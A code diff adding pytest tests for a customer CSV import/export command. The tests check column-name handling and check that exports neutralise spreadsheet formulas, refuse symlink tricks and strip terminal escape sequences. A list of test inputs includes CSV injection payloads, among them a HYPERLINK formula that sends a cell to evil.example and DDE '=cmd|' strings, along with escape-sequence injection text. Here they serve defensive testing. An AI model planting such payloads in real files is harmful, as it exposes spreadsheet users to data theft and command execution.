@@ -1,5 +1,9 @@
 """Customers in bulk: all of a file or nothing, again and again, and out again as they were."""
 
+import csv
+import os
+import re
+import stat
 from collections.abc import Callable
 from datetime import UTC, datetime
 from pathlib import Path
@@ -245,3 +249,184 @@ def test_a_firestore_that_is_away_is_told_in_a_sentence(
     monkeypatch.setenv("FIRESTORE_EMULATOR_HOST", f"127.0.0.1:{free_port()}")
     assert import_("addresses\n+15550000001\n") == 1
     assert "Firestore cannot be reached" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize(
+    "header",
+    [
+        "Customer_ID,Display_Name,Addresses,Worker,Do_not_contact",
+        "customer id, Display Name ,ADDRESSES,Worker,Do Not Contact",
+        "customerId,displayName,addresses,worker,doNotContact",
+        "\ufeffCUSTOMER-ID;display-name;addresses;worker;do-not-contact",
+        "\u200bcustomer_id,display\u00a0name,addresses\ufeff,worker,do_not__contact",
+        "customer_id,display_name,addresses,worker,do_not_contact,,",
+    ],
+)
+def test_a_column_is_understood_however_it_is_spelled(import_: Import, db: Client, header: str) -> None:
+    row = "ada,Ada,+15550000001,carol@example.com,yes".replace(",", ";" if ";" in header else ",")
+    assert import_(f"{header}\n{row}{',,' if header.endswith(',,') else ''}\n") == 0
+    record = {name: value for name, value in _all(db)["ada"].items() if name not in ("search", "sort_name")}
+    assert record == {
+        "display_name": "Ada",
+        "addresses": ["+15550000001"],
+        "worker": "carol@example.com",
+        "do_not_contact": True,
+    }
+
+
+@pytest.mark.parametrize(
+    ("column", "meant"),
+    [
+        ("do_not_contakt", "do_not_contact"),
+        ("DoNotContacts", "do_not_contact"),
+        ("dont_contact", "do_not_contact"),
+        ("Adress", "addresses"),
+        ("address", "addresses"),
+        ("displayed name", "display_name"),
+        ("workers", "worker"),
+        ("Link", "links"),
+        ("Languages", "language"),
+        ("detail title", "details_title"),
+    ],
+)
+def test_a_column_that_is_nearly_one_is_refused_with_what_was_meant(
+    import_: Import, db: Client, capsys: pytest.CaptureFixture[str], column: str, meant: str
+) -> None:
+    assert import_(f"customer_id,addresses,{column}\nada,+15550000001,x\n") == 1
+    assert f"did you mean {meant}" in capsys.readouterr().err
+    assert _all(db) == {}
+
+
+@pytest.mark.parametrize(
+    ("header", "said"),
+    [
+        ("addresses,Worker,worker", "the column worker comes twice"),
+        ("addresses,Sort Name", "is kept by the service"),
+        ("addresses,PROBLEM", "is kept by the service"),
+    ],
+)
+def test_two_spellings_of_one_column_and_what_the_service_keeps_are_refused(
+    import_: Import, capsys: pytest.CaptureFixture[str], header: str, said: str
+) -> None:
+    assert import_(f"{header}\n+15550000001\n") == 1
+    assert said in capsys.readouterr().err
+
+
+def test_a_cell_without_a_column_is_a_mistake(import_: Import, capsys: pytest.CaptureFixture[str]) -> None:
+    assert import_("addresses,\n+15550000001,lost\n") == 1
+    assert ":2: a cell stands under no column" in capsys.readouterr().err
+
+
+def test_columns_that_only_templates_read_are_named(
+    import_: Import, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert import_("addresses,company,Name\n+15550000001,A,B\n") == 0
+    assert "company, Name" in capsys.readouterr().err
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example?x="&A1,"click")',
+    "=cmd|'/c calc'!a0",
+    "@SUM(1+1)",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "-",
+    "+",
+    "'=1",
+    "''=1",
+    "'-x",
+    "\uff1d1",
+    "\tx",
+    "\r=1",
+    "\n=1",
+]
+BEGINNINGS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"]
+HARMLESS = ["'s Gravenhage", "+15550000009", "-5", "-5.25", "Ada", "a=b", "'", "1+1"]
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS])
+def test_no_text_of_an_export_is_a_formula_and_an_import_changes_nothing(
+    import_: Import,
+    db: Client,
+    project: str,
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    text: str,
+) -> None:
+    evil = "=cmd|'/c calc'!a0@evil.test"
+    name = text.strip().replace("/", "") or "x"
+    records.customer(db, name, display_name=text, addresses=[evil, "+15550000001"], company=text)
+    records.customer(
+        db, "two", details={"title": text, "content": text}, addresses=["+15550000002", f"{evil}x"]
+    )
+    records.customer(db, "three", addresses=["+15550000003"], worker=text, language=text)
+    before, file = _all(db), tmp_path / "out.csv"
+    assert customers.main(["export", str(file), "--project", project]) == 0
+    with file.open(encoding="utf-8-sig", newline="") as opened:
+        cells = [cell for row in csv.reader(opened) for cell in row]
+    assert [
+        cell for cell in cells if cell[:1] in BEGINNINGS and not re.fullmatch(r"[+-]\d+(\.\d+)?", cell)
+    ] == []
+    assert import_(file.read_text("utf-8-sig")) == 0, capsys.readouterr().err
+    kept = ("search", "sort_name")
+    for name, record in _all(db).items():
+        assert {key: value for key, value in record.items() if key not in kept} == before[name]
+    capsys.readouterr()
+    assert import_(file.read_text("utf-8-sig")) == 0
+    assert "0 new, 0 changed, 3 unchanged" in capsys.readouterr().out
+
+
+def test_fields_that_are_called_nearly_as_a_column_come_back_as_they_were(
+    import_: Import, db: Client, project: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    odd = {
+        "Display_Name": "old",
+        "address": "12 High St",
+        "Worker ": "x",
+        "Problem": "none",
+        "worker_id": "7",
+    }
+    records.customer(db, "ada", addresses=["+15550000001"], company="x" * 200_000, **odd)
+    assert import_("customer_id,display_name\nada,Ada\n") == 0
+    before, file = _all(db), tmp_path / "out.csv"
+    assert customers.main(["export", str(file), "--project", project]) == 0
+    capsys.readouterr()
+    assert import_(file.read_text("utf-8-sig")) == 0
+    assert "0 new, 0 changed, 1 unchanged" in capsys.readouterr().out
+    assert _all(db) == before
+
+
+def test_an_export_is_for_its_owner_alone_whatever_lay_there(
+    db: Client, project: str, tmp_path: Path
+) -> None:
+    records.customer(db, "ada", addresses=["+15550000001"])
+    file, part, precious = tmp_path / "out.csv", tmp_path / "out.csv.part", tmp_path / "precious"
+    precious.write_text("mine")
+    file.write_text("old")
+    file.chmod(0o644)
+    part.symlink_to(precious)
+    old = os.umask(0o022)
+    try:
+        assert customers.main(["export", str(file), "--project", project]) == 0
+    finally:
+        os.umask(old)
+    assert stat.S_IMODE(file.stat().st_mode) == 0o600
+    assert not part.exists()
+    assert precious.read_text() == "mine"
+
+
+def test_what_a_file_holds_never_reaches_the_terminal_as_it_is(
+    import_: Import, db: Client, capsys: pytest.CaptureFixture[str]
+) -> None:
+    evil = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e[bold]"
+    for text in (
+        f"addresses,{evil}\n+15550000001,x\n",
+        f"addresses\n{evil}\n",
+        f"customer_id,addresses,worker\n{evil}/,+15550000001,{evil}/\n",
+        f"addresses,links\n+15550000001,{evil}\n",
+    ):
+        assert import_(text) == 1
+        said = capsys.readouterr()
+        assert not set("\x1b\x07\x9b\u202e") & set(said.err + said.out)
+    assert import_(f"addresses\n{evil}\n") == 1
+    assert "owned\\x07\\x1b[2J\\x9b31m\\u202e[bold]" in capsys.readouterr().err
